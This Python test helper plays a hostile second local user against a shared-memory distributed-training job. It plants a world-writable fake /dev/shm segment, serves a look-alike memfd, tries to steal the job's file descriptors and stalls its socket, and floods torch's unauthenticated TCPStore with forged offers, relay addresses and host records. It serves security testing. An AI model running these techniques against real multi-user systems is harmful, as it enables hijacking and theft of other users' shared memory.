"""Another local user attacking a shm job (tests/test_shm_faults.py).  Two roles:

``python3 shm_intruder.py user SECONDS DIR`` -- run AS THE OTHER USER, until ``DIR/done`` appears
(the test writes it once both ranks have ended) or SECONDS pass, standard library only
(the job's virtual environment need not be readable by that user).  It

* listens on a TCP port of its own, as the relay the issue's attacker ran between gloo's ranks:
  every connection and byte that reaches it is counted (the job must send it nothing);
* serves a look-alike memfd (valid magic and size, the job's token once known) on an abstract
  socket of its own;
* pre-creates a world-writable look-alike segment file in /dev/shm;
* connects to the job's real hand-over socket as soon as the job's offer is known, to obtain the
  job's segment, and separately connects and says nothing (a stall);

and writes its addresses to ``DIR/fake.json`` and its results to ``DIR/user.json``.

``python shm_intruder.py store HOST PORT SECONDS DIR [forge-who|keep-who]`` -- writes into the job's rendezvous store
as fast as it can: false segment offers, gloo-like address keys pointing at the relay (see
``_gloo_keys``: not the names gloo reads), and with ``forge-who`` rank 1's host record claiming
another host (so the ranks would believe they share no node and talk over gloo); it records the job's real offer in
``DIR/real.txt``.  The store has no authentication, so which uid runs this role changes nothing
(docs/security.md); it runs in the test's environment because it needs torch's TCPStore client.
"""

import ctypes
import json
import mmap
import os
import secrets
import socket
import struct
import sys
import threading
import time

PREFIX = "default_pg/0//cpu//"  # where a plain env:// job's default group keeps its keys
GENERATIONS = (1, 2, 3)  # the shm group's key prefix counts the rank's groups: the first few
MAGIC = 0x6370756464707368


def _offer_key(gen: int) -> str:
    return f"{PREFIX}shm/{gen}/seg/0"


def _relay(result: dict, deadline: float) -> int:
    """A TCP listener standing in for the relay: counts what reaches it."""
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.bind(("127.0.0.1", 0))
    srv.listen(16)
    srv.settimeout(0.05)

    def serve() -> None:
        while time.monotonic() < deadline:
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            result["relay_connections"] += 1
            conn.settimeout(1)
            try:
                while True:
                    data = conn.recv(65536)
                    if not data:
                        break
                    result["relay_bytes"] += len(data)
            except OSError:
                pass
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    return srv.getsockname()[1]


def user_role(seconds: float, where: str) -> None:
    deadline = time.monotonic() + seconds
    done = os.path.join(where, "done")
    result = {"uid": os.geteuid(), "served": 0, "stolen_fds": 0, "steal_errors": [], "relay_connections": 0,
              "relay_bytes": 0, "stalls": 0}
    relay_port = _relay(result, deadline)
    path = f"/dev/shm/cpuddp-shm-0-{os.getpid()}-{secrets.token_hex(4)}"
    with open(path, "wb") as f:
        f.write(b"\0" * (8 << 20))
    os.chmod(path, 0o666)
    fake = os.memfd_create("cpuddp-shm")
    os.ftruncate(fake, 8 << 20)
    name = secrets.token_hex(16)
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(b"\0cpuddp-shm-" + name.encode())
    srv.listen(8)
    srv.settimeout(0.05)
    with open(os.path.join(where, "fake.json.tmp"), "w") as f:
        json.dump({"sock": name, "path": path, "relay_port": relay_port}, f)
    os.rename(os.path.join(where, "fake.json.tmp"), os.path.join(where, "fake.json"))
    real_file = os.path.join(where, "real.txt")

    def token() -> int:
        try:
            with open(real_file) as f:
                return int(f.read().split("\t")[2])
        except (OSError, IndexError, ValueError):
            return 1

    def serve() -> None:
        while time.monotonic() < deadline:
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            with conn:
                try:
                    conn.recv(16)
                    with mmap.mmap(fake, 4096) as head:
                        words = (ctypes.c_int64 * 8).from_buffer(head, 0)
                        words[0], words[1], words[2], words[3] = MAGIC, 2, 1 << 20, token()
                        del words
                    socket.send_fds(conn, [struct.pack("q", token())], [fake, fake])
                    result["served"] += 1
                    conn.recv(100)
                except OSError:
                    pass

    threading.Thread(target=serve, daemon=True).start()
    tried, held = False, []
    while time.monotonic() < deadline and not os.path.exists(done):
        if not tried and os.path.exists(real_file):
            tried = True
            try:
                with open(real_file) as f:
                    sock = f.read().split("\t")[1]
                staller = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                staller.connect(b"\0cpuddp-shm-" + sock.encode())  # and say nothing
                held.append(staller)
                result["stalls"] += 1
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as c:
                    c.settimeout(2)
                    c.connect(b"\0cpuddp-shm-" + sock.encode())
                    c.sendall(b"1\n")
                    _msg, fds, _f, _a = socket.recv_fds(c, 64, 4)
                    result["stolen_fds"] += len(fds)
            except (OSError, IndexError) as exc:
                result["steal_errors"].append(str(exc)[:100])
        time.sleep(0.01)
    os.unlink(path)
    with open(os.path.join(where, "user.json"), "w") as f:
        json.dump(result, f)


def _gloo_keys() -> list:
    """Names near those where a gloo group of the job looks for its peers' addresses (the world
    group's, a gloo group inside a shm group of any generation, a new_group's).  Not gloo's own:
    gloo reads ``.../gloo/0/{rank}`` (context index first) and a binary address, so a job that
    moved onto gloo would not reach the relay -- the test sees such a move by the ranks'
    ``shm_calls`` instead."""
    keys = []
    for r in (0, 1):
        keys += [f"{PREFIX}{r}", f"{PREFIX}gloo/{r}", f"default_pg/1//cpu//{r}"]
        keys += [f"{PREFIX}shm/{g}/gloo/{r}" for g in GENERATIONS]
    return keys


def store_role(host: str, port: int, seconds: float, where: str, forge_who: bool) -> None:
    import datetime

    import torch.distributed as dist

    deadline = time.monotonic() + seconds
    store = dist.TCPStore(host, port, is_master=False, timeout=datetime.timedelta(seconds=30))
    open(os.path.join(where, "connected"), "w").close()
    fake_file = os.path.join(where, "fake.json")
    while not os.path.exists(fake_file) and time.monotonic() < deadline:
        time.sleep(0.01)
    with open(fake_file) as f:
        fake = json.load(f)
    relay = f"127.0.0.1:{fake['relay_port']}".encode()
    elsewhere = json.dumps({"rank": 1, "host": "attacker-host|boot|ns", "cpus": [0], "local_rank": None,
                            "local_size": None, "pid": 4242, "pid_ns": "1"})
    writes, real, i = 0, None, 0

    def forge() -> None:
        if forge_who:
            for gen in GENERATIONS:
                store.set(f"{PREFIX}shm/{gen}/who/1", elsewhere)

    while time.monotonic() < deadline:
        try:
            for gen in GENERATIONS:
                key = _offer_key(gen)
                if real is None and store.check([key]):
                    cur = store.get(key).decode(errors="replace")
                    if fake["sock"] not in cur and fake["path"] not in cur:
                        real = cur
                        with open(os.path.join(where, "real.txt"), "w") as f:
                            f.write(real)
                token = real.split("\t")[2] if real else "1"
                value = f"sock\t{fake['sock']}\t{token}\t{1 << 20}" if i % 2 else f"{fake['path']}\t{token}\t{1 << 20}"
                store.set(key, value)
                forge()
            for key in _gloo_keys():
                store.set(key, relay)
                forge()  # often: rank 1 writes its true record once, and rank 0 may read it before the next forgery
            writes += 1
            i += 1
        except Exception:  # noqa: BLE001 -- the job ended and took its store with it
            break
    with open(os.path.join(where, "store.json"), "w") as f:
        json.dump({"writes": writes, "saw_real_offer": real is not None}, f)


if __name__ == "__main__":
    if sys.argv[1] == "user":
        user_role(float(sys.argv[2]), sys.argv[3])
    else:
        store_role(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), sys.argv[5], sys.argv[6] == "forge-who")
